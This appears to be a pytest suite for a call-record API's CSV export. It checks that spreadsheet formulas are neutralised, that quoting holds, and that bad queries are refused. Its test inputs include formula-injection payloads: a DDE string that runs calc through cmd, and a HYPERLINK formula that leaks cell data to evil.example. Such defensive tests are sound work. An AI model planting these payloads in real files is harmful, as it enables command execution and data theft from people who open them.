"""Call records as a CSV file: whole, quoted, and nothing in it that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io

import pytest
from aiohttp import ClientError
from aiohttp.test_utils import TestClient

from acd.control.sheet import defused, lines
from tests.support.control import Centre, a_record, bearer


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n+372",
        "\uff1d1+1",
        "+372 5550001",
        "-",
        "+3725550001\n=1",
        "+\u0661\u0662",
    ],
)
def test_nothing_that_a_spreadsheet_computes_is_left_in_a_cell(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "text"),
    [("+3725550001", "+3725550001"), ("1001", "1001"), (-3, "-3"), (0.25, "0.25"), ("Mari =)", "Mari =)")],
)
def test_numbers_and_words_stay_what_they_are(cell: str | float, text: str) -> None:
    assert defused(cell) == text


def test_quotes_commas_and_line_ends_stay_in_their_cell() -> None:
    written = lines([['a "b", c', "two\r\nlines", None]]).decode()
    assert list(csv.reader(io.StringIO(written, newline=""))) == [['a "b", c', "two\r\nlines", ""]]


async def test_file_holds_every_record_that_matches(client: TestClient, centre: Centre) -> None:
    centre.records.kept = [a_record(f"r{index}") for index in range(250)]
    response = await client.get("/v1/records?format=csv&queue=billing", headers=bearer("supervisor"))
    assert response.content_type == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    rows = table(await response.text())
    assert [row["id"] for row in rows] == [f"r{index}" for index in range(250)]
    assert {filters.queue for filters, _, _ in centre.records.asked} == {"billing"}
    first, kept = rows[0], centre.records.kept[0]
    assert (first["caller"], first["agent"], first["outcome"]) == (kept.caller, kept.agent, "answered")
    assert first["started_at"].endswith("Z")


async def test_accept_asks_for_it_too(client: TestClient, centre: Centre) -> None:
    centre.records.kept = [a_record()]
    response = await client.get("/v1/records", headers={**bearer("viewer"), "Accept": "text/csv"})
    (row,) = table(await response.text())
    assert row["caller"] != centre.records.kept[0].caller  # shortened for who may only look
    response = await client.get(
        "/v1/records", headers={**bearer("viewer"), "Accept": "application/json, text/csv"}
    )
    assert response.content_type == "application/json"


async def test_formulas_of_a_caller_are_defused_in_the_file(client: TestClient, centre: Centre) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    centre.records.kept = [a_record(caller=evil, diverted_from=evil, attributes={"=x": evil})]
    response = await client.get("/v1/records?format=csv", headers=bearer("supervisor"))
    (row,) = table(await response.text())
    assert not [cell for cell in row.values() if cell[:1] in ("=", "-", "@")]
    assert row["caller"] == f"'{evil}"


@pytest.mark.parametrize("query", ["format=csv&limit=5", "format=csv&cursor=abc", "format=xml"])
async def test_what_a_file_cannot_have_is_refused(client: TestClient, query: str) -> None:
    response = await client.get(f"/v1/records?{query}", headers=bearer("viewer"))
    assert response.status == 400
    assert response.content_type == "application/problem+json"


async def test_file_that_breaks_off_is_seen_to_be_cut(client: TestClient, centre: Centre) -> None:
    centre.records.kept = [a_record(f"r{index}") for index in range(250)]
    centre.records.fails_after = 1
    response = await client.get("/v1/records?format=csv", headers=bearer("supervisor"))
    with pytest.raises(ClientError):
        await response.text()
